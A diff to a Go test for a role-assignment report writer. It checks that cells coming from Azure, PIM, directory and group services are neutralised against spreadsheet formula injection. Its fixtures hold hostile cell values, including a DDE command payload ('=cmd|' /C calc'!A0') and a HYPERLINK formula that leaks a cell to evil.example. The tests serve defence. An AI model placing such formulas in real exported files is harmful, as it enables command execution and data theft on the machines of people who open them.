@@ -69,10 +69,18 @@ func reportItems() []job.Item {
 		{PrincipalID: "=HYPERLINK(\"x\")", State: job.Invalid, Line: 4, Detail: "line 4: bad GUID", UpdatedAt: at},
 		{PrincipalID: "", State: job.Invalid, Line: 9, Detail: "line 9: neither principal_id nor user_principal_name", UpdatedAt: at},
 		{PrincipalID: "", State: job.Invalid, Line: 3, Reference: "-3", Detail: "line 3: bad date", UpdatedAt: at},
-		// Ids the services hand out are written as they are.
+		// An assignment id the services hand out is written as it is;
+		// its role definition id and scope are neutralised (issue 24).
 		{PrincipalID: "c0000000-0000-0000-0000-000000000003", Source: "azure",
-			AssignmentID: "-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r",
-			Scope:        "=/subscriptions/s", State: job.Planned, Detail: "M\xfcller"},
+			AssignmentID:     "-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r",
+			RoleDefinitionID: "+/providers/x", Scope: "=/subscriptions/s", State: job.Planned, Detail: "M\xfcller"},
+		// A refused row as the planner puts it: every cell from the
+		// service neutralised.
+		{PrincipalID: "f0000000-0000-0000-0000-000000000006", Source: "directory", AssignmentID: "=cmd|' /C calc'!A0",
+			RoleDefinitionID: "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")", Scope: "=1+2",
+			State: job.Failed, Detail: job.UnexpectedID, UpdatedAt: at},
+		{PrincipalID: "f0000000-0000-0000-0000-000000000006", Source: "groups", AssignmentID: "0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f",
+			RoleDefinitionID: "@SUM(1)", Scope: "\t/x", State: job.Failed, Detail: "=group name from Graph", UpdatedAt: at},
 		{PrincipalID: "d0000000-0000-0000-0000-000000000004", UPN: "dee@contoso.example", Source: "pim",
 			AssignmentID: "e1", State: job.AlreadyAbsent, Detail: "confirmed absent on rerun", Attempts: 0, UpdatedAt: at},
 		{PrincipalID: "e0000000-0000-0000-0000-000000000005", State: job.Deferred, Line: 12, Detail: "effective 2099-01-01", UpdatedAt: at},
@@ -149,6 +157,8 @@ func TestWriteReportShape(t *testing.T) {
 		"c0000000-0000-0000-0000-000000000003|azure|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r",
 		"d0000000-0000-0000-0000-000000000004|pim|e1",
 		"e0000000-0000-0000-0000-000000000005||",
+		"f0000000-0000-0000-0000-000000000006|directory|'=cmd|' /C calc'!A0",
+		"f0000000-0000-0000-0000-000000000006|groups|0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f",
 	}
 	if !slices.Equal(order, wantOrder) {
 		t.Errorf("row order:\n%q\nwant\n%q", order, wantOrder)
@@ -176,7 +186,15 @@ func TestWriteReportShape(t *testing.T) {
 		{"a0000000-0000-0000-0000-000000000001|", 8, "'\rcr", "detail CR"},
 		{"a0000000-0000-0000-0000-000000000001|", 2, "line one\nline two", "reference with a newline"},
 		{"'=HYPERLINK(\"x\")|", 7, "invalid", "invalid row's id neutralised"},
-		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", 6, "=/subscriptions/s", "service ids as they are"},
+		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", 4, "-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "a checked assignment id as it is"},
+		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", 5, "'+/providers/x", "role definition id neutralised"},
+		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", 6, "'=/subscriptions/s", "scope neutralised"},
+		{"f0000000-0000-0000-0000-000000000006|'=cmd|' /C calc'!A0", 4, "'=cmd|' /C calc'!A0", "refused assignment id"},
+		{"f0000000-0000-0000-0000-000000000006|'=cmd|' /C calc'!A0", 5, "'=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")", "refused role definition id"},
+		{"f0000000-0000-0000-0000-000000000006|'=cmd|' /C calc'!A0", 6, "'=1+2", "refused directory scope id"},
+		{"f0000000-0000-0000-0000-000000000006|0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f", 5, "'@SUM(1)", "role definition id @"},
+		{"f0000000-0000-0000-0000-000000000006|0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f", 6, "'\t/x", "scope tab"},
+		{"f0000000-0000-0000-0000-000000000006|0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f", 8, "'=group name from Graph", "detail from a service"},
 		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", 10, "", "zero time"},
 		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", 8, "M\uFFFDller", "invalid UTF-8 replaced"},
 		{"d0000000-0000-0000-0000-000000000004|e1", 9, "0", "zero attempts"},
